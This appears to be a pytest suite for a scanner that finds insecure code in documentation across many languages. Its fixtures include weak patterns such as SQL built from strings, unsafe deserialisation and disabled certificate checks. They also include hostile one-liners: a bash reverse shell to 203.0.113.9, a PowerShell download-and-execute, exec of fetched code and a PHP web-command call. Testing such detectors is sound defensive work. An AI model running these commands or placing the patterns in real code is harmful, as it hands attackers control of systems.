"""Weak code is found in every language and shape that documentation shows it in; sound code is left alone."""

import base64
import os
import re
import subprocess
import sys
import textwrap
import tomllib
from importlib.resources import files
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from schemas.verdict import Status
from tasks.gate.code import MOST_CODE, find_code
from tasks.gate.code_blocks import blocks


def fenced(language: str, code: str) -> str:
    return f"How the service does it:\n\n```{language}\n{code}\n```\n\nThat is all.\n"


def rules(text: str) -> set[str]:
    return {hit.rule for hit in find_code(text) or ()}


def unsafe(text: str) -> set[str]:
    return {hit.rule for hit in find_code(text) or () if hit.status is Status.UNSAFE}


@pytest.mark.parametrize(
    ("language", "code", "rule"),
    [
        ("python", "import pickle\nstate = pickle.loads(blob)", "B301"),
        ("py", "subprocess.run(f'git diff {base}', shell=True)", "B602"),
        ("python", "config = yaml.load(stream)", "B506"),
        ("python", "digest = hashlib.md5(data).hexdigest()", "B324"),
        ("python", "app.run(debug=True)", "debug-mode"),
        ("python", "requests.get(url, verify=False, timeout=3)", "B501"),
        ("python", "session.execute('MATCH (n:%s) RETURN n' % label)", "sql-from-strings"),
        ("python", "from django.utils.safestring import mark_safe\n\ndef b(t):\n    return mark_safe(t)", "B703"),
        ("pycon", ">>> eval(expression)\n42", "B307"),
        ("javascript", "const result = eval(source)", "eval"),
        ("js", "child_process.exec('convert ' + name + ' out.png')", "shell-command"),
        ("ts", "panel.innerHTML = comment.body", "unescaped-markup"),
        ("tsx", "<p dangerouslySetInnerHTML={{ __html: body }} />", "unescaped-markup"),
        ("js", "const agent = new https.Agent({ rejectUnauthorized: false })", "unchecked-certificate"),
        ("ts", "db.query(`SELECT * FROM users WHERE id = ${id}`)", "sql-from-strings"),
        ("js", "frame.contentWindow.postMessage(token, '*')", "open-to-all"),
        ("js", "crypto.createHash('md5').update(password)", "weak-hash"),
        ("java", 'Runtime.getRuntime().exec("ping " + host);', "shell-command"),
        ("java", "Object o = new ObjectInputStream(in).readObject();", "deserialise"),
        ("java", 'Cipher c = Cipher.getInstance("AES/ECB/PKCS5Padding");', "weak-cipher"),
        ("java", "DocumentBuilderFactory f = DocumentBuilderFactory.newInstance();", "xml-entities"),
        ("csharp", "var data = new BinaryFormatter().Deserialize(stream);", "deserialise"),
        ("csharp", 'new SqlCommand("SELECT * FROM users WHERE name = \'" + name + "\'");', "sql-from-strings"),
        ("php", "$data = unserialize($blob);", "deserialise"),
        ("php", "echo $_GET['name'];", "unescaped-markup"),
        ("php", '$db->query("SELECT * FROM users WHERE id = $id");', "sql-from-strings"),
        ("go", 'exec.Command("sh", "-c", line).Run()', "shell-command"),
        ("go", "tls.Config{InsecureSkipVerify: true}", "unchecked-certificate"),
        ("ruby", 'system("convert #{name} out.png")', "shell-command"),
        ("rust", "Client::builder().danger_accept_invalid_certs(true)", "unchecked-certificate"),
        ("c", "strcpy(buffer, argument);", "unbounded-copy"),
        ("cpp", 'sprintf(line, "%s", name);', "unbounded-copy"),
        ("js", "const token = Math.random().toString(36)", "weak-random"),
        ("sql", "EXEC('SELECT * FROM ' + @table)", "sql-from-strings"),
        ("sql", "GRANT ALL PRIVILEGES ON *.* TO 'app'@'%';", "rights-for-all"),
        ("yaml", "securityContext:\n  privileged: true", "privileged-container"),
        ("yaml", "volumes:\n  - /var/run/docker.sock:/var/run/docker.sock", "privileged-container"),
        ("yaml", "- run: echo ${{ github.event.issue.title }}", "workflow-script"),
        ("yaml", "value: !!python/object/apply:os.system [id]", "deserialise"),
        ("dockerfile", "RUN apt-get update && \\\n    curl -fsSL https://get.example/i.sh | sh", "image-build"),
        ("dockerfile", "RUN chmod -R 777 /app", "image-build"),
        ("sh", 'eval "$1"', "eval"),
    ],
)  # fmt: skip
def test_weak_code_is_kept_with_a_caveat(language: str, code: str, rule: str) -> None:
    assert rule in rules(fenced(language, code))
    assert not unsafe(fenced(language, code))


@pytest.mark.parametrize(
    ("language", "code", "rule"),
    [
        ("python", "eval(request.args['filter'])", "untrusted-input"),
        ("python", "os.system('ping ' + sys.argv[1])", "untrusted-input"),
        ("python", "subprocess.run(input(), shell=True)", "untrusted-input"),
        ("python", "pickle.loads(request.data)", "untrusted-input"),
        ("js", "eval(req.query.code)", "untrusted-input"),
        ("php", "include $_GET['page'];", "untrusted-input"),
        ("php", "system($_POST['command']);", "untrusted-input"),
        ("python", "exec(base64.b64decode(blob))", "hidden-program"),
        ("python", "exec(requests.get(url).text)", "hidden-program"),
        ("js", "eval(atob(blob))", "hidden-program"),
        ("powershell", "iex (New-Object Net.WebClient).DownloadString($url)", "hidden-program"),
        ("bash", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", "reverse-shell"),
        ("python", "os.dup2(s.fileno(), 0)", "reverse-shell"),
    ],
)  # fmt: skip
def test_code_that_hands_over_the_machine_is_unsafe(language: str, code: str, rule: str) -> None:
    assert rule in unsafe(fenced(language, code))


@pytest.mark.parametrize(
    ("language", "code"),
    [
        ("python", "import subprocess\n\nsubprocess.run(['git', 'status'], check=True)"),
        ("python", "def test_sum() -> None:\n    assert sum([1, 2]) == 3"),
        ("python", "data = yaml.safe_load(stream)"),
        ("python", "tree = ast.literal_eval(text)"),
        ("python", "cursor.execute('SELECT name FROM users WHERE id = %s', (user,))"),
        ("python", "hashlib.md5(data, usedforsecurity=False)"),
        ("pycon", '>>> auth = BasicAuth(username="anne", password="secret")'),
        ("python", "response = requests.get('https://api.example/v1')"),
        ("python", "model.eval()"),
        ("python", "from django.utils.safestring import mark_safe\n\nrule = mark_safe('<hr>')"),
        ("js", "element.textContent = name"),
        ("js", "element.innerHTML = '';"),
        ("js", "const match = pattern.exec(line)"),
        ("ts", "db.query('SELECT * FROM users WHERE id = $1', [id])"),
        ("ts", "const text = `Select ${count} items, then update the list`.trim()"),
        ("js", "child_process.execFile('git', ['status'])"),
        ("js", "// never: element.innerHTML = comment.body"),
        ("js", "const delay = Math.random() * 100"),
        ("java", 'statement = connection.prepareStatement("SELECT * FROM users WHERE id = ?");'),
        ("php", "$hash = password_hash($password, PASSWORD_DEFAULT);"),
        ("go", 'exec.Command("git", "status").Run()'),
        ("c", 'snprintf(line, sizeof line, "%s", name);'),
        ("sql", "SELECT name FROM users WHERE id = $1;"),
        ("sql", "GRANT SELECT ON orders TO reporting;"),
        ("yaml", "securityContext:\n  privileged: false"),
        ("yaml", "env:\n  TITLE: ${{ github.event.issue.title }}"),
        ("dockerfile", "FROM python:3.12\nRUN pip install uv\nUSER app"),
        ("bash", 'uv run pytest -q\neval "$(ssh-agent -s)"'),
        ("json", '{"eval": "eval(code)"}'),
    ],
)  # fmt: skip
def test_sound_code_is_safe(language: str, code: str) -> None:
    assert find_code(fenced(language, code)) == ()


@pytest.mark.parametrize(
    "code",
    [
        "        return 1\n\n    def load(self):\n        return pickle.loads(self.blob)",
        "def load(blob):\n    state = pickle.loads(blob)\n    if state:",
        "try:\n    state = pickle.loads(blob)",
        "@cache\ndef load(blob):\n    return pickle.loads(blob)\n\n@cache",
        "states = [\n    pickle.loads(blob),",
        '    the blob.\n    """\n    state = pickle.loads(blob)',
        "state = pickle.loads(blob)\nprint 'state', state\nexec code in scope",
        "except IOError, error:\n    state = pickle.loads(blob)",
        ">>> state = pickle.loads(blob)\nTraceback (most recent call last):\n  ...\nEOFError",
        "In [1]: state = pickle.loads(blob)",
        "%pip install numpy\n!ls\nstate = pickle.loads(blob)",
        "def load(self, ...):\n    state = pickle.loads(blob)\n    ...",
        "client = Client(<your name>)\nstate = pickle.loads(blob)",
        "else:\n    state = pickle.loads(blob)",
        "state = pickle.loads(blob)  # nosec",
    ],
    ids=[
        "body-only", "no-block", "no-except", "decorator-at-the-end", "open-bracket", "half-a-docstring",
        "python-2", "python-2-except", "doctest", "notebook", "magics", "dots", "placeholder",
        "orphaned-else", "switched-off",
    ],
)  # fmt: skip
def test_a_fragment_of_python_is_repaired_and_looked_at(code: str) -> None:
    assert "B301" in rules(fenced("python", code))


@pytest.mark.parametrize(
    "text",
    [
        "import pickle\n\nstate = pickle.loads(blob)\n",
        "Load it like this:\n\nimport pickle\nstate = pickle.loads(blob)\n\nThen go on.",
        "Load it like this:\n\n    import pickle\n    state = pickle.loads(blob)\n",
        fenced("", "import pickle\nstate = pickle.loads(blob)"),
        fenced("text", "def load(blob):\n    return pickle.loads(blob)"),
        "> ```python\n> state = pickle.loads(blob)\n> ```\n",
        '1. Load it:\n   ~~~ py title="load.py"\n   state = pickle.loads(blob)\n   ~~~\n',
        "```python\nstate = pickle.loads(blob)",
        "````markdown\n```python\nstate = pickle.loads(blob)\n```\n````\n",
    ],
    ids=[
        "bare",
        "in-prose",
        "indented",
        "no-language",
        "wrong-language",
        "quoted",
        "in-a-list",
        "unclosed",
        "nested",
    ],
)
def test_code_is_recognised_however_it_is_shown(text: str) -> None:
    assert "B301" in rules(text)


@pytest.mark.parametrize(
    "text",
    [
        "Never call eval on what users send.",
        "Run the tests before you commit.",
        "",
        "# Title\n\n- one\n- two: three\n",
    ],
)
def test_prose_is_no_code(text: str) -> None:
    assert find_code(text) is None


def test_a_word_split_by_invisible_characters_is_read_as_an_eye_reads_it() -> None:
    hits = find_code(fenced("js", "ev\u200bal(source)")) or ()
    assert [(hit.rule, hit.view) for hit in hits] == [("eval", "normalised")]


def test_line_ends_change_nothing() -> None:
    text = fenced("python", "def load(blob):\n    return pickle.loads(blob)") + fenced("js", "eval(source)")
    assert find_code(text) == find_code(text.replace("\n", "\r\n"))


def test_an_encoded_program_is_read() -> None:
    inner = base64.b64encode(b"child_process.exec('convert ' + name + ' out.png')").decode()
    assert ("shell-command", "decoded") in {
        (hit.rule, hit.view) for hit in find_code(fenced("js", f"run({inner})")) or ()
    }


def test_python_nested_too_deeply_for_the_engine_is_read_by_the_rules() -> None:
    assert rules(fenced("python", "state = pickle.loads(" + "-" * 5_000 + "blob)")) == {"deserialise"}
    assert rules(fenced("python", "eval(" + " + ".join(["part"] * 500) + ")")) == {"eval"}


def test_more_code_than_is_read_is_a_caveat() -> None:
    assert rules(fenced("js", "go();\n" * MOST_CODE)) == {"too-long"}


def test_a_finding_never_repeats_the_code() -> None:
    text = fenced("python", "database_password = 'h7Kq2mW9xT4z'\nconfig = yaml.load(h7Kq2mW9xT4z)")
    hits = find_code(text) or ()
    assert {"B105", "B506"} <= {hit.rule for hit in hits}
    assert "h7Kq2mW9xT4z" not in repr(hits)


def test_the_engine_leaves_nothing_behind_and_bears_warnings_as_errors(tmp_path: Path) -> None:
    code = (
        "import warnings; form = warnings.formatwarning; from tasks.gate.code import find_code;"
        "assert find_code('```py\\neval(x)\\n```'); assert warnings.formatwarning is form"
    )
    home = {"HOME": str(tmp_path), "XDG_CACHE_HOME": str(tmp_path), "LOCALAPPDATA": str(tmp_path)}
    subprocess.run(
        [sys.executable, "-W", "error", "-P", "-c", code],
        env={**os.environ, **home, "PYTHONDONTWRITEBYTECODE": "1", "PYTHONPATH": os.pathsep.join(sys.path)},
        check=True,
    )
    assert not list(tmp_path.iterdir())


def test_every_test_of_bandit_has_a_hint() -> None:
    hints = tomllib.loads(files("tasks.gate").joinpath("code.toml").read_text("utf-8"))["bandit"]["hints"]
    assert "B" in hints
    assert all(re.fullmatch(r"B\d{0,3}", test) for test in hints)


@given(
    st.text(alphabet=st.characters(codec=None, exclude_categories=()), max_size=200),
    st.sampled_from(["", "py", "js", "yaml"]),
)
def test_no_text_breaks_the_check(text: str, language: str) -> None:
    assert find_code(f"```{language}\n{text}") == find_code(f"```{language}\n{text}")


@given(st.text(alphabet="()[]{}:=\"'#@\\ \n\tabif0.,", max_size=120))
def test_no_fragment_of_python_breaks_the_repair(code: str) -> None:
    assert find_code(f"```python\n{code}") is not None


@pytest.mark.parametrize(
    "seed", ["(", "{", "a.b(", "'", '"""', "if x:\n", "    ", "@a\n", "eval(", "lambda: ", "\0"]
)
def test_long_nonsense_comes_to_an_end(seed: str) -> None:
    for language in ("python", "js", ""):
        assert find_code(f"```{language}\n{seed * (200_000 // len(seed))}") is not None


@given(
    st.integers(0, 4), st.sampled_from(["state = pickle.loads(blob)", "if ready:\n    state = pickle.loads(blob)"])
)
def test_indentation_changes_nothing(depth: int, code: str) -> None:
    assert rules(fenced("python", textwrap.indent(code, "    " * depth))) == {"B301"}


def test_blocks_come_in_order_with_their_language() -> None:
    text = "```py\na = 1\n```\n\n```Dockerfile\nFROM x\n```\n\n```unheard-of\n?\n```\n"
    assert [(block.language, block.text) for block in blocks(text)] == [
        ("python", "a = 1"),
        ("dockerfile", "FROM x"),
        ("", "?"),
    ]
